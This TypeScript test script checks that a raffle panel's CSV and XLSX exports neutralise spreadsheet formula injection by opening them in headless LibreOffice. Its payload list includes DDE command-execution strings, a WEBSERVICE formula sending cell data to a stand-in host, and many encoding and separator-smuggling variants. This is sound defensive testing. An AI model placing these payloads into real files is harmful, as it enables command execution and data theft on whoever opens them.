/**
 * `npm run exports`: opens the files that the panel exports in LibreOffice, with a text that a spreadsheet could take for a formula in
 * every text of every column, and counts the formulas that it made of them. Ends with 1 when there is one.
 */
import { execFileSync } from 'node:child_process'
import { createWriteStream, existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { pipeline } from 'node:stream/promises'
import type { Column } from '#reports/cell.ts'
import { writeCsv } from '#reports/server/csv.ts'
import { JOURNAL_COLUMNS } from '#reports/server/export-journal.ts'
import { PURCHASE_COLUMNS } from '#reports/server/export-purchases.ts'
import { sheetOf, writeXlsx } from '#reports/server/xlsx.ts'

const SOFFICE = '/usr/bin/soffice'
const LINK = '=HYPERLINK("http://x.test";"Ana")'
const HOSTILE = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '%1', '|1', LINK, '=WEBSERVICE("http://x.test/"&A1)', '{=1+1}', "'=1+1"],
  ...[`=cmd|' /C calc'!A0`, '=DDE("cmd";"/C calc";"x")', '@SUM(1+1)*cmd|" /C calc"!A0', 'of:=1+1', 'msoxl:=1+1'],
  ...[
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u3000=1+1',
    '\v=1+1',
    '\u001f=1+1',
  ],
  ...['＝1+1', '＋1+1', '－1+1', '＠SUM(1+1)', '＝１＋１', '−1+1', '﹢1+1', '﹣1', '﹦1+1', '⁼1+1', '₌1+1'],
  ...[
    '"=1+1',
    '";=1+1;"',
    '";"=1+1";"',
    'a;=1+1',
    'a,=1+1',
    'a\t=1+1',
    'a\n=1+1',
    'a\r\n=1+1',
    'a";\r\n=1+1;"',
    'a\r=1+1',
    'a|=1+1',
  ],
  ...['a,=1+1,', 'a;=1+1;', 'a\t=1+1\t', '",=1+1,"', 'a,"=1+1",b', 'a\t"=1+1"\tb'],
]
/** As a file is read whose separator somebody chose wrong: whoever opens it is asked for it. */
const SEPARATORS = { semicolon: 59, comma: 44, tab: 9 }

const say = (line: string) => void process.stdout.write(`${line}\n`)
const folder = mkdtempSync(join(tmpdir(), 'tombola-exports-'))
let failed = false

/** The columns with that text wherever they have a text. Of a row of nothing each says at least which kind of cell it is. */
function poisoned<Row>(columns: readonly Column<Row>[], sample: Row): Column<string>[] {
  return columns.map((column) => {
    const cell = column.cell(sample)
    return { ...column, cell: (texto) => ('texto' in cell ? { texto } : cell) }
  })
}

async function* page(): AsyncGenerator<string[]> {
  yield HOSTILE
}

/** LibreOffice's reading of a file: its formulas, and how many of its cells are texts. */
function open(file: string, separator?: number): { formulas: string[]; texts: number } {
  // Separator, quote, UTF-8, from line 1, and formulas are reckoned, which a person may choose too.
  const filter =
    separator === undefined
      ? []
      : [`--infilter=Text - txt - csv (StarCalc):${separator},34,76,1,,,false,false,,,,,true`]
  const args = ['--headless', '--norestore', `-env:UserInstallation=file://${folder}/profile`, ...filter]
  execFileSync(SOFFICE, [...args, '--convert-to', 'fods', '--outdir', folder, join(folder, file)], {
    stdio: 'ignore',
  })
  const sheet = readFileSync(join(folder, file.replace(/\.\w+$/, '.fods')), 'utf8')
  return {
    formulas: [...sheet.matchAll(/table:formula="([^"]*)"/g)].map(([, formula = '']) => formula),
    texts: [...sheet.matchAll(/<table:table-cell\b([^>]*)office:value-type="string"/g)]
      // Neighbours that hold the same are written once.
      .reduce((sum, [, before = '']) => sum + Number(/columns-repeated="(\d+)"/.exec(before)?.[1] ?? 1), 0),
  }
}

function check(held: boolean, line: string): void {
  if (!held) failed = true
  say(`${held ? 'ok    ' : 'FAILED'} ${line}`)
}

/** Writes both files of an export and opens them. */
async function look<Row>(name: string, columns: readonly Column<Row>[], sample: Row): Promise<void> {
  const all = poisoned(columns, sample)
  const texts = all.filter((column) => 'texto' in column.cell('')).length
  await pipeline(Readable.from(writeCsv(all, page())), createWriteStream(join(folder, `${name}.csv`)))
  await pipeline(writeXlsx(sheetOf(name, all, page())), createWriteStream(join(folder, `${name}.xlsx`)))
  const told = (formulas: string[]) =>
    `${formulas.length} formulas${formulas.length > 0 ? `: ${[...new Set(formulas)].join('  ')}` : ''}`
  const workbook = open(`${name}.xlsx`)
  check(
    workbook.formulas.length === 0,
    `${name}.xlsx: ${told(workbook.formulas)} of ${HOSTILE.length} texts in ${texts} columns`,
  )
  check(workbook.texts === HOSTILE.length * texts + all.length, `${name}.xlsx: ${workbook.texts} cells are texts`)
  for (const [separator, code] of Object.entries(SEPARATORS)) {
    const { formulas } = open(`${name}.csv`, code)
    check(formulas.length === 0, `${name}.csv, read with ${separator}: ${told(formulas)}`)
  }
}

if (!existsSync(SOFFICE)) {
  say('LibreOffice is missing: apt-get install libreoffice-calc-nogui')
  process.exit(1)
}
try {
  const control = [{ titulo: 'Texto', ancho: 10, cell: (texto: string) => ({ texto }) }]
  const raw = `${control[0]?.titulo}\r\n${HOSTILE.map((text) => `"${text.replaceAll('"', '""')}"`).join('\r\n')}`
  await pipeline(Readable.from([raw]), createWriteStream(join(folder, 'control.csv')))
  const { formulas } = open('control.csv', SEPARATORS.semicolon)
  check(formulas.length > 0, `control: written as they are, ${formulas.length} of ${HOSTILE.length} texts are formulas`)
  const purchase = {
    estado: 'confirmado',
    creado_en: 0,
    total: '5.00',
    monto: '5.00',
    fecha: '2026-11-20',
    numeros: [],
    metodo_pago: null,
    referencia: '',
  }
  await look('compras', PURCHASE_COLUMNS, purchase as never)
  const line = { en: '2026-11-20T12:00:00Z', actor: 'x', rifa_id: 1, id: 1, accion: 'compras exportadas', datos: {} }
  await look('diario', JOURNAL_COLUMNS, line as never)
} finally {
  rmSync(folder, { recursive: true, force: true })
}
process.exitCode = failed ? 1 : 0
